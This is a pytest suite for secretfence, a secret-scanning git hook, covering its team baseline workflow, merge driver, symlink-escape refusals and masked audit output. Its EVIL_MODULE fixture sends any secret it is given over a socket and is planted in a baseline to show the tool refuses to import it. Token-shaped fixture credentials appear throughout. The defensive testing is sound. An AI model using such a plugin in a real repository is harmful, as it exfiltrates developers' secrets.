"""The team baseline workflow, in real git repositories."""
from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from secretfence.baseline import Baseline, merge
from secretfence.findings import hash_secret
from tests.conftest import git, write

TELEGRAM_A = "7213808860:AAH1bjqpKKW3maRSPAxzIU-0v6xNuq2-NjM"
TELEGRAM_B = "5174039793:AAOYElGOH3iVvM4K6YKbtgsGmd8sFcGGkmz"
BASELINE = "baseline/secrets.baseline"


@pytest.fixture
def team_repo(temp_git_dir: Path, run_cli) -> Path:
    write(temp_git_dir / "pyproject.toml", f'[tool.secretfence]\nbaseline = "{BASELINE}"\n')
    write(temp_git_dir / "app.py", "x = 1\n")
    git(temp_git_dir, "add", "-A")
    assert run_cli("baseline", "create")[0] == 0
    git(temp_git_dir, "add", "-A")
    git(temp_git_dir, "commit", "-qm", "start")
    return temp_git_dir


def _results(repo: Path) -> dict:
    return json.loads((repo / BASELINE).read_text())["results"]


def test_create_is_deterministic_and_portable(team_repo: Path, run_cli) -> None:
    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
    git(team_repo, "add", "bot.py")
    assert run_cli("baseline", "create", "--force")[0] == 0
    first = (team_repo / BASELINE).read_bytes()
    assert run_cli("baseline", "create", "--force")[0] == 0
    assert (team_repo / BASELINE).read_bytes() == first
    document = json.loads(first)
    assert "generated_at" not in document and str(team_repo) not in first.decode()
    assert list(document) == ["version", "plugins_used", "filters_used", "results"]
    assert [p["name"] for p in document["plugins_used"]] == sorted((p["name"] for p in document["plugins_used"]), key=str.lower)
    assert [e["type"] for e in document["results"]["bot.py"]] == ["Telegram Bot API Token"]
    assert sorted(os.listdir(team_repo / "baseline")) == ["secrets.baseline"]  # no temp files left


def test_create_refuses_to_overwrite(team_repo: Path, run_cli) -> None:
    code, _, err = run_cli("baseline", "create")
    assert code == 2 and "exists: use `secretfence baseline update`" in err


def test_update_keeps_labels_adds_new_and_drops_fixed(team_repo: Path, run_cli) -> None:
    write(team_repo / "a.py", f"T = '{TELEGRAM_A}'\n")
    write(team_repo / "b.py", f"T = '{TELEGRAM_B}'\n")
    git(team_repo, "add", "-A")
    assert run_cli("baseline", "update")[0] == 0
    baseline = Baseline.load(str(team_repo / BASELINE))
    for entry in baseline.results.values():
        if entry["filename"] == "a.py":
            entry["is_secret"] = False
    baseline.save(str(team_repo))
    write(team_repo / "a.py", f"# moved\nT = '{TELEGRAM_A}'\n")
    (team_repo / "b.py").write_text("T = os.environ['T']\n")  # fixed
    write(team_repo / "c.py", f"T = '{TELEGRAM_B}'\n")  # new
    git(team_repo, "add", "-A")
    code, out, _ = run_cli("baseline", "update")
    assert code == 0 and "1 added, 1 fixed and dropped" in out
    results = _results(team_repo)
    assert sorted(results) == ["a.py", "c.py"]
    assert results["a.py"][0]["is_secret"] is False and results["a.py"][0]["line_number"] == 2
    assert "is_secret" not in results["c.py"][0]
    assert run_cli("scan")[0] == 0  # the audited false positive stays suppressed


def test_two_branches_merge_through_the_driver_without_conflict(team_repo: Path) -> None:
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    subprocess.run([sys.executable, "-m", "secretfence", "baseline", "install-merge-driver"], cwd=team_repo, env=env, check=True,
                   capture_output=True)
    assert f"{BASELINE} merge=secretfence" in (team_repo / ".gitattributes").read_text()
    git(team_repo, "add", ".gitattributes")
    git(team_repo, "commit", "-qm", "merge driver")
    for branch, name, token in (("left", "left.py", TELEGRAM_A), ("right", "right.py", TELEGRAM_B)):
        git(team_repo, "checkout", "-qb", branch, "main")
        write(team_repo / name, f"T = '{token}'\n")
        git(team_repo, "add", name)
        subprocess.run([sys.executable, "-m", "secretfence", "baseline", "update"], cwd=team_repo, env=env, check=True, capture_output=True)
        git(team_repo, "add", "-A")
        git(team_repo, "commit", "-qm", f"{branch} finding")
    git(team_repo, "checkout", "-q", "left")
    merged = subprocess.run(["git", "merge", "--no-edit", "right"], cwd=team_repo, env=env, capture_output=True, text=True)
    assert merged.returncode == 0, merged.stdout + merged.stderr
    assert sorted(_results(team_repo)) == ["left.py", "right.py"]
    assert "<<<<<<<" not in (team_repo / BASELINE).read_text()


def _baseline(results: dict) -> Baseline:
    return Baseline.from_document({"version": "1.5.0", "results": results})


def test_conflicting_audit_labels_resolve_to_real_and_say_so() -> None:
    entry = {"type": "Secret Keyword", "filename": "x.py", "hashed_secret": "a" * 40, "line_number": 3}
    base = _baseline({"x.py": [entry]})
    ours = _baseline({"x.py": [{**entry, "is_secret": False}]})
    theirs = _baseline({"x.py": [{**entry, "is_secret": True, "line_number": 9}]})
    result = merge(base, ours, theirs)
    (merged,) = result.baseline.results.values()
    assert merged["is_secret"] is True and merged["line_number"] == 9
    assert result.notes == [f"x.py: Secret Keyword {'a' * 8}… audited differently on both branches; kept as a real secret"]


def test_one_sided_label_and_removal_merge_cleanly() -> None:
    a = {"type": "T", "filename": "a.py", "hashed_secret": "1" * 40}
    b = {"type": "T", "filename": "b.py", "hashed_secret": "2" * 40}
    base = _baseline({"a.py": [a], "b.py": [b]})
    ours = _baseline({"a.py": [{**a, "is_secret": False}], "b.py": [b]})
    theirs = _baseline({"a.py": [a]})  # b.py fixed on their side
    result = merge(base, ours, theirs)
    assert [(e["filename"], e.get("is_secret")) for e in result.baseline.results.values()] == [("a.py", False)]
    assert result.notes == []


def test_hook_fails_loudly_on_a_plugin_it_cannot_load(team_repo: Path, run_cli) -> None:
    document = json.loads((team_repo / BASELINE).read_text())
    document["plugins_used"].append({"name": "CorpInternalTokenDetector", "path": "file:///home/alice/plugins/corp.py"})
    position = len(document["plugins_used"]) - 1  # after every plugin a fresh baseline records
    (team_repo / BASELINE).write_text(json.dumps(document))
    code, out, err = run_cli("scan", "--staged", "app.py")
    assert code == 2 and out == ""
    assert err.strip() == (
        f"secretfence: error: {team_repo / BASELINE}: plugins_used[{position}]: names plugin 'Cor…tor', which secretfence "
        "cannot load (not in detect-secrets 1.5 nor secretfence); the scan would miss its findings"
    )


def test_baseline_from_older_detect_secrets_is_read_not_rewritten(team_repo: Path, run_cli) -> None:
    from secretfence.findings import hash_secret

    old = {
        "version": "1.0.3",
        "plugins_used": [{"name": "KeywordDetector"}, {"name": "TelegramBotTokenDetector"}],
        "filters_used": [{"path": "detect_secrets.filters.allowlist.is_line_allowlisted"}],
        "results": {"bot.py": [{"type": "Telegram Bot Token", "filename": "bot.py", "hashed_secret": hash_secret(TELEGRAM_A),
                                "is_verified": False, "line_number": 1}]},
        "generated_at": "2021-01-01T00:00:00Z",
    }
    (team_repo / BASELINE).write_text(json.dumps(old))
    before = (team_repo / BASELINE).read_bytes()
    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
    git(team_repo, "add", "bot.py")
    code, out, _ = run_cli("scan", "--staged", "bot.py")
    assert code == 0, out  # detect-secrets' own Telegram entry accounts for our detector's finding
    assert (team_repo / BASELINE).read_bytes() == before


def test_audit_labels_interactively_and_stats_count_them(team_repo: Path, run_cli) -> None:
    from secretfence.commands.audit import audit

    write(team_repo / "a.py", f"T = '{TELEGRAM_A}'\n")
    write(team_repo / "b.py", f"T = '{TELEGRAM_B}'\n")
    git(team_repo, "add", "-A")
    run_cli("baseline", "update")
    answers, shown = io.StringIO("n\ny\n"), io.StringIO()
    assert audit(stdin=answers, stdout=shown) == 0
    transcript = shown.getvalue()
    assert ">    1 | T = '721…NjM'" in transcript and TELEGRAM_A not in transcript
    assert "secretfence: 2 finding(s) labelled" in transcript
    labels = {name: entries[0]["is_secret"] for name, entries in _results(team_repo).items()}
    assert labels == {"a.py": False, "b.py": True}
    code, out, _ = run_cli("audit", "--stats")
    assert code == 0 and "2 finding(s) in 2 file(s): 1 real, 1 false positive(s), 0 unlabelled" in out


def test_audit_needs_a_terminal(team_repo: Path, run_cli, monkeypatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(""))
    code, _, err = run_cli("audit")
    assert code == 2 and "needs a terminal; use --stats" in err


# --- a baseline is data: nothing it names is ever imported ------------------------------------

# Written into the repository by the tests below: importing it, or calling its `f`, leaves a
# marker file and connects to the test's listener, sending what it was given.
EVIL_MODULE = """\
import socket
open({marker!r}, "a").write("imported\\n")
socket.create_connection(("127.0.0.1", {port})).sendall(b"imported")


def f(secret="", *args, **kwargs):
    socket.create_connection(("127.0.0.1", {port})).sendall(secret.encode())
    return True
"""


@pytest.mark.parametrize(("settings", "reason"), [
    ({"filters_used": [{"path": "file://baseline/evil.py::f"}]},
     "filters_used[0]: filter 'fil…::f' is not one of detect-secrets 1.5's built-in filters"),
    ({"filters_used": [{"path": "sfevil.f"}]},
     "filters_used[0]: filter 's…f' is not one of detect-secrets 1.5's built-in filters"),
    ({"filters_used": [{"path": "detect_secrets.filters.allowlist.is_line_allowlisted"},
                       {"path": "file://baseline/evil.py::f", "pattern": ["x"]}]},
     "filters_used[1]: filter 'fil…::f' is not one of detect-secrets 1.5's built-in filters"),
    ({"plugins_used": [{"name": "EvilDetector", "path": "file://baseline/evil.py"}]},
     "plugins_used[0]: names plugin 'Ev…r', which secretfence cannot load"),
    ({"version": "0.14.3", "plugins_used": [], "custom_plugin_paths": ["baseline/evil.py", "sfevil.py"]},
     "`custom_plugin_paths` names plugin code; a baseline is data"),
])
def test_a_baseline_naming_code_is_refused_and_nothing_runs(temp_git_dir: Path, settings: dict, reason: str) -> None:
    """The hook in a repository whose baseline names code (reviewer's report, defect 1): before,
    the code ran and received every secret found. Now: one line, exit 2, nothing imported, no
    connection made."""
    from tests.verify.conftest import Listener, silent

    listener = Listener(silent)
    try:
        marker = temp_git_dir.parent / "IMPORTED"
        evil = EVIL_MODULE.format(marker=str(marker), port=listener.port)
        write(temp_git_dir / "baseline" / "evil.py", evil)
        write(temp_git_dir / "sfevil.py", evil)  # importable as `sfevil`: `python -m` puts the cwd on sys.path
        write(temp_git_dir / "leak.py", f"TOKEN = '{TELEGRAM_A}'\n")
        (temp_git_dir / BASELINE).write_text(json.dumps({"version": "1.5.0", "results": {}, **settings}))
        git(temp_git_dir, "add", "-A")
        hook = subprocess.run([sys.executable, "-m", "secretfence", "scan", "--staged"], cwd=temp_git_dir,
                              capture_output=True, text=True, timeout=120)
        assert (hook.returncode, hook.stdout) == (2, ""), hook.stderr
        assert hook.stderr.startswith(f"secretfence: error: {temp_git_dir / BASELINE}: {reason}"), hook.stderr
        assert len(hook.stderr.splitlines()) == 1
        assert not marker.exists()
        assert listener.connections == 0
    finally:
        listener.close()


def test_a_plugin_path_is_never_imported(temp_git_dir: Path) -> None:
    """A detect-secrets plugin named with a `path` loads by its name; the path is ignored."""
    marker = temp_git_dir.parent / "IMPORTED"
    write(temp_git_dir / "baseline" / "evil.py", f"open({str(marker)!r}, 'w').close()\n")
    write(temp_git_dir / "keys.py", "aws_access_key_id = 'AKIA4NACSIJMDDNSEDTE'\nG = 'ghp_Zx8Kq2Lm9Np4Rt7Vw1Yb3Cd6Ef0Gh5Jk2Ls8'\n")
    (temp_git_dir / BASELINE).write_text(json.dumps({"version": "1.5.0", "results": {}, "plugins_used": [
        {"name": "GitHubTokenDetector", "path": "file://baseline/evil.py"},
        {"name": "SecretfenceAwsDetector", "path": "file://baseline/evil.py"}]}))
    git(temp_git_dir, "add", "-A")
    hook = subprocess.run([sys.executable, "-m", "secretfence", "scan", "--staged", "--json"], cwd=temp_git_dir,
                          capture_output=True, text=True, timeout=120)
    assert hook.returncode == 1, hook.stderr
    assert sorted(e["type"] for e in json.loads(hook.stdout)["results"]["keys.py"]) == ["AWS Credentials", "GitHub Token"]
    assert not marker.exists()


# --- writes stay inside the repository ------------------------------------------------------------


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file outside the repository that a committed link points at."""
    target = tmp_path / "outside" / "precious"
    write(target, "precious\n")
    return target


def _refused(err: str, name: str) -> bool:
    return err == (f"secretfence: error: {name}: refused: a symbolic link leads outside the repository; secretfence "
                   "writes only inside it (replace the link with a regular file)\n")


def test_create_refuses_a_baseline_linked_outside(temp_git_dir: Path, outside: Path, run_cli) -> None:
    (temp_git_dir / "baseline").mkdir()
    (temp_git_dir / BASELINE).symlink_to(outside)
    write(temp_git_dir / "a.py", "x = 'AKIA4NACSIJMDDNSEDTE'\n")
    git(temp_git_dir, "add", "-A")
    code, out, err = run_cli("baseline", "create", "--force")
    assert (code, out) == (2, "") and _refused(err, str(temp_git_dir / BASELINE)), err
    assert outside.read_text() == "precious\n"


def test_a_linked_directory_on_the_way_out_is_refused_too(temp_git_dir: Path, outside: Path, run_cli) -> None:
    (temp_git_dir / "baseline").symlink_to(outside.parent, target_is_directory=True)
    write(temp_git_dir / "a.py", "x = 1\n")
    git(temp_git_dir, "add", "-A")
    code, _, err = run_cli("baseline", "create", "--baseline", "baseline/new.baseline")
    assert code == 2 and _refused(err, "baseline/new.baseline"), err
    assert sorted(os.listdir(outside.parent)) == ["precious"]


def test_update_and_audit_refuse_a_baseline_linked_outside(team_repo: Path, outside: Path, run_cli) -> None:
    from secretfence.commands.audit import audit

    outside.write_text((team_repo / BASELINE).read_text())
    (team_repo / BASELINE).unlink()
    (team_repo / BASELINE).symlink_to(outside)
    before = outside.read_text()
    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
    git(team_repo, "add", "-A")
    code, _, err = run_cli("baseline", "update")
    assert code == 2 and _refused(err, str(team_repo / BASELINE)), err
    document = json.loads(before)
    document["results"] = {"bot.py": [{"type": "Telegram Bot API Token", "filename": "bot.py", "line_number": 1,
                                       "hashed_secret": hash_secret(TELEGRAM_A), "is_verified": False}]}
    before = json.dumps(document)
    outside.write_text(before)
    from secretfence.errors import WriteError

    with pytest.raises(WriteError, match="refused: a symbolic link leads outside the repository"):
        audit(stdin=io.StringIO("n\n"), stdout=io.StringIO())
    assert outside.read_text() == before


def test_a_link_inside_the_repository_is_followed(team_repo: Path, run_cli) -> None:
    """The baseline may live under another name in the repository, linked from the usual one."""
    real = team_repo / "security" / "team.baseline"
    real.parent.mkdir()
    os.replace(team_repo / BASELINE, real)
    (team_repo / BASELINE).symlink_to(Path("..") / "security" / "team.baseline")
    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
    git(team_repo, "add", "-A")
    code, out, err = run_cli("baseline", "update")
    assert code == 0, err
    assert (team_repo / BASELINE).is_symlink() and "bot.py" in json.loads(real.read_text())["results"]


def test_install_merge_driver_refuses_gitattributes_linked_outside(temp_git_dir: Path, outside: Path, run_cli) -> None:
    (temp_git_dir / ".gitattributes").symlink_to(outside)
    code, _, err = run_cli("baseline", "install-merge-driver")
    assert code == 2 and _refused(err, str(temp_git_dir / ".gitattributes")), err
    assert outside.read_text() == "precious\n"
    config = subprocess.run(["git", "config", "--get-regexp", "merge"], cwd=temp_git_dir, capture_output=True, text=True)
    assert config.stdout == ""  # nothing half-done


def test_install_merge_driver_refuses_a_gitattributes_fifo(temp_git_dir: Path, run_cli) -> None:
    os.mkfifo(temp_git_dir / ".gitattributes")
    code, _, err = run_cli("baseline", "install-merge-driver")
    assert code == 2 and err == (f"secretfence: error: {temp_git_dir / '.gitattributes'}: cannot read: not a regular "
                                 "file (a FIFO)\n")


def test_the_merge_driver_refuses_to_write_through_a_link_outside(team_repo: Path, outside: Path) -> None:
    base = team_repo / BASELINE
    (team_repo / "ours").symlink_to(outside)
    outside.write_text(base.read_text())
    before = outside.read_text()
    merged = subprocess.run([sys.executable, "-m", "secretfence", "baseline", "merge", str(base), "ours", str(base)],
                            cwd=team_repo, capture_output=True, text=True, timeout=120)
    assert merged.returncode == 2 and _refused(merged.stderr, "ours"), merged.stderr
    assert outside.read_text() == before


# --- what a baseline lets pass, at each door ------------------------------------------------------

GITHUB = "ghp_Zx8Kq2Lm9Np4Rt7Vw1Yb3Cd6Ef0Gh5Jk2Ls8"


def _write_baseline(repo: Path, **document: object) -> None:
    write(repo / BASELINE, json.dumps({"version": "1.5.0", "results": {}, **document}))


@pytest.mark.parametrize(("filter_path", "pattern"), [
    ("detect_secrets.filters.regex.should_exclude_secret", r"\d"),
    ("detect_secrets.filters.regex.should_exclude_line", "TOKEN"),
    ("detect_secrets.filters.regex.should_exclude_file", "leak"),
])
def test_a_baseline_regex_filter_never_hides_secretfence_findings(temp_git_dir: Path, run_cli, filter_path: str,
                                                                   pattern: str) -> None:
    write(temp_git_dir / "leak.py", f"TOKEN = '{TELEGRAM_A}'\n")
    _write_baseline(temp_git_dir, filters_used=[{"path": filter_path, "pattern": [pattern]}])
    code, out, _ = run_cli("scan", "--json", "leak.py")
    assert code == 1
    document = json.loads(out)
    assert [e["type"] for e in document["results"]["leak.py"]] == ["Telegram Bot API Token"]
    if filter_path.endswith("should_exclude_file"):  # named, so that it passes nobody unseen
        assert document["skipped"] == {"leak.py": "detect-secrets' plugins set aside by the baseline's "
                                                  "should_exclude_file; secretfence's detectors scanned it"}


def test_a_bang_in_a_real_file_name_is_not_an_archive_member(temp_git_dir: Path, run_cli) -> None:
    """`src/prod!.py` is a file: an entry audited false for the same secret in another file
    does not let it pass the commit door (it used to, by the `!`)."""
    write(temp_git_dir / "src" / "prod!.py", f"TOKEN = '{TELEGRAM_A}'\n")
    _write_baseline(temp_git_dir, results={"tests/fixture.py": [
        {"type": "Telegram Bot API Token", "filename": "tests/fixture.py", "hashed_secret": hash_secret(TELEGRAM_A),
         "is_secret": False}]})
    code, out, _ = run_cli("scan", "src")
    assert code == 1 and "src/prod!.py\n  line 1: Telegram Bot API Token  721…NjM" in out


def _wheel(repo: Path, members: dict) -> None:
    import zipfile

    (repo / "dist").mkdir(exist_ok=True)
    with zipfile.ZipFile(repo / "dist" / "x-1.0-py3-none-any.whl", "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)


@pytest.mark.parametrize(("label", "code"), [(True, 1), (None, 1), (False, 0)])
def test_the_gate_passes_an_entry_for_the_member_itself_only_when_audited_false(
        temp_git_dir: Path, run_cli, label: "bool | None", code: int) -> None:
    """The reviewer's defect 7: an exact-identity entry labelled real (or not audited) passed."""
    _wheel(temp_git_dir, {"pkg/c.py": f"T = '{TELEGRAM_A}'\n"})
    member = "dist/x-1.0-py3-none-any.whl!pkg/c.py"
    entry = {"type": "Telegram Bot API Token", "filename": member, "hashed_secret": hash_secret(TELEGRAM_A)}
    if label is not None:
        entry["is_secret"] = label
    _write_baseline(temp_git_dir, results={member: [entry]})
    result, out, _ = run_cli("check-dist")
    assert result == code, out
    if code:
        assert out.endswith("secretfence check-dist: 1 new secret in 1 file, 1 file scanned — blocked (exit 1)\n")
    else:
        assert out.endswith("1 accounted for by the baseline, 1 file scanned — ok (exit 0)\n")


def test_at_the_gate_a_baseline_neither_filters_nor_drops_detectors(temp_git_dir: Path, run_cli) -> None:
    """Regex filters and a short plugin list change the commit door (detect-secrets' way), not
    what may be published."""
    _wheel(temp_git_dir, {"pkg/c.py": f"T = '{TELEGRAM_A}'\nG = '{GITHUB}'\n"})
    _write_baseline(temp_git_dir, plugins_used=[{"name": "KeywordDetector"}], filters_used=[
        {"path": "detect_secrets.filters.regex.should_exclude_file", "pattern": ["."]},
        {"path": "detect_secrets.filters.regex.should_exclude_line", "pattern": ["T = ", "G = "]},
        {"path": "detect_secrets.filters.regex.should_exclude_secret", "pattern": ["ghp_", "AAH"]}])
    code, out, _ = run_cli("check-dist", "--json")
    assert code == 1
    results = json.loads(out)["results"]["dist/x-1.0-py3-none-any.whl!pkg/c.py"]
    assert sorted(e["type"] for e in results) == ["GitHub Token", "Telegram Bot API Token"]


def test_audit_masks_every_secret_in_the_lines_it_shows(team_repo: Path, run_cli) -> None:
    """Review defect 17: the neighbouring lines were shown unmasked, and in a UTF-16 file the
    secret under review was shown whole, with NULs between its characters. Names are masked too."""
    from secretfence.commands.audit import audit
    from secretfence.redact import mask
    from tests.fakes import github_token, telegram_token

    github, telegram, wide, in_name = github_token(21), telegram_token(22), telegram_token(23), github_token(24)
    write(team_repo / "c.py", f'a = "{github}"\nb = "{telegram}"\n')
    (team_repo / "u.txt").write_bytes(f'bot = "{wide}"\n'.encode("utf-16"))
    write(team_repo / f"d_{in_name}" / "e.py", f'b = "{telegram}"\n')
    git(team_repo, "add", "-A")
    assert run_cli("baseline", "update")[0] == 0
    shown = io.StringIO()
    assert audit(stdin=io.StringIO("s\n" * 20), stdout=shown) == 0
    transcript = shown.getvalue()
    for secret in (github, telegram, wide, in_name):
        assert secret not in transcript
    assert "\0" not in transcript
    lines = transcript.splitlines()
    assert [line for line in lines if line.startswith(("[", " >", "  "))] == [
        "[1/6] c.py:1  Base64 High Entropy String",
        f' >    1 | a = "{mask(github)}"', f'      2 | b = "{mask(telegram)}"', "      3 | ",
        "[2/6] c.py:1  GitHub Token",
        f' >    1 | a = "{mask(github)}"', f'      2 | b = "{mask(telegram)}"', "      3 | ",
        "[3/6] c.py:2  Telegram Bot API Token",
        f'      1 | a = "{mask(github)}"', f' >    2 | b = "{mask(telegram)}"', "      3 | ",
        f"[4/6] d_{mask(in_name)}  GitHub Token", "  (in the name itself, shown masked)",
        f"[5/6] d_{mask(in_name)}/e.py:1  Telegram Bot API Token",
        f' >    1 | b = "{mask(telegram)}"', "      2 | ",
        "[6/6] u.txt:1  Telegram Bot API Token",
        f' >    1 | bot = "{mask(wide)}"', "      2 | ",
    ]
